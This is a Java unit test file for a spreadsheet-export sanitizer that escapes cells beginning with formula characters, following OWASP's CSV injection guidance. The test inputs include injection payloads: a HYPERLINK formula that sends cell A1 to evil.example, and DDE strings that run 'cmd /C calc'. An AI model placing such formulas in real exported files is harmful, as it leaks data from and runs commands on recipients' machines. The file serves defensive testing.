package org.misbridge.api.files;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/**
 * OWASP's CSV Injection page: no cell may begin with '=', '+', '-', '@', tab (0x09) or carriage
 * return (0x0D) (its later edition adds line feed, 0x0A); prepend a single quote. The expected
 * values below are written from that rule by hand.
 */
class SpreadsheetCellsTest {

    @Test
    void cellsStartingWithAFormulaCharacterGetALeadingApostrophe() {
        assertThat(SpreadsheetCells.text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
        assertThat(SpreadsheetCells.text("+SUM(1+1)*cmd|' /C calc'!A0")).isEqualTo("'+SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(SpreadsheetCells.text("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(SpreadsheetCells.text("@SUM(1+1)")).isEqualTo("'@SUM(1+1)");
        assertThat(SpreadsheetCells.text("\t=1+2")).isEqualTo("'\t=1+2");
        assertThat(SpreadsheetCells.text("\r=1+2")).isEqualTo("'\r=1+2");
        assertThat(SpreadsheetCells.text("\n=1+2")).isEqualTo("'\n=1+2");
        assertThat(SpreadsheetCells.text("-Smith")).isEqualTo("'-Smith");
    }

    @Test
    void plainTextNumbersAndEmptyCellsAreLeftAlone() {
        assertThat(SpreadsheetCells.text("Smith-Jones")).isEqualTo("Smith-Jones");
        assertThat(SpreadsheetCells.text("O'Neil, Jr")).isEqualTo("O'Neil, Jr");
        assertThat(SpreadsheetCells.text("A=B")).isEqualTo("A=B");
        assertThat(SpreadsheetCells.text("-5.00")).isEqualTo("-5.00");
        assertThat(SpreadsheetCells.text("+44")).isEqualTo("+44");
        assertThat(SpreadsheetCells.text("-1")).isEqualTo("-1");
        assertThat(SpreadsheetCells.text(7)).isEqualTo("7");
        assertThat(SpreadsheetCells.text(false)).isEqualTo("false");
        assertThat(SpreadsheetCells.text(null)).isEmpty();
        assertThat(SpreadsheetCells.text("")).isEmpty();
        assertThat(SpreadsheetCells.text("'quoted")).isEqualTo("'quoted");
    }

    @Test
    void anApostropheAlreadyBeforeAFormulaCharacterGetsAnotherSoAProgramCanUndoItExactly() {
        assertThat(SpreadsheetCells.text("'=1+2")).isEqualTo("''=1+2");
        for (String original : new String[] {"'=1+2", "=1+2", "-Smith", "''-x", "Smith", "'x"}) {
            String written = SpreadsheetCells.text(original);
            String undone = written.matches("(?s)'+[=+\\-@\\t\\r\\n].*") ? written.substring(1) : written;
            assertThat(undone).as(original).isEqualTo(original);
        }
    }
}
